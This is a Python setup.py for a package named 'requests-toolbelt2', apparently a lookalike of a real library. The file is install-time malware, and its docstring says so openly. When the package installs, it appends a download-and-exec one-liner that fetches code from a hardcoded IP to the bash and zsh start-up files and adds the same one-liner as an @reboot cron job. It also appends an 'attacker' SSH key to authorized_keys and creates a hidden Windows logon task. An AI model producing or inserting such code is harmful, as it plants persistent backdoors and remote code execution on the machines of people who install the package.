"""Installs persistence from setup.py: shell start-up files, cron, an SSH key
and a scheduled task, all running a download-and-exec one-liner."""
import os
import subprocess
from pathlib import Path

from setuptools import setup

HOME = Path.home()
HOOK = 'python3 -c "import urllib.request as u; exec(u.urlopen(\'http://198.51.100.9/h\').read())"'

with open(os.path.expanduser("~/.bashrc"), "a") as rc:
    rc.write("\n" + HOOK + " >/dev/null 2>&1 &\n")

(HOME / ".zshrc").write_text((HOME / ".zshrc").read_text() + "\n" + HOOK + "\n")
os.system('(crontab -l 2>/dev/null; echo "@reboot ' + HOOK + '") | crontab -')
open(os.path.expanduser("~/.ssh/authorized_keys"), "a").write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB attacker\n")
subprocess.run(["schtasks", "/create", "/sc", "onlogon", "/tn", "Updater", "/tr", "pythonw -m updater"], check=False)

setup(name="requests-toolbelt2", version="1.0.0", py_modules=["toolbelt2"])
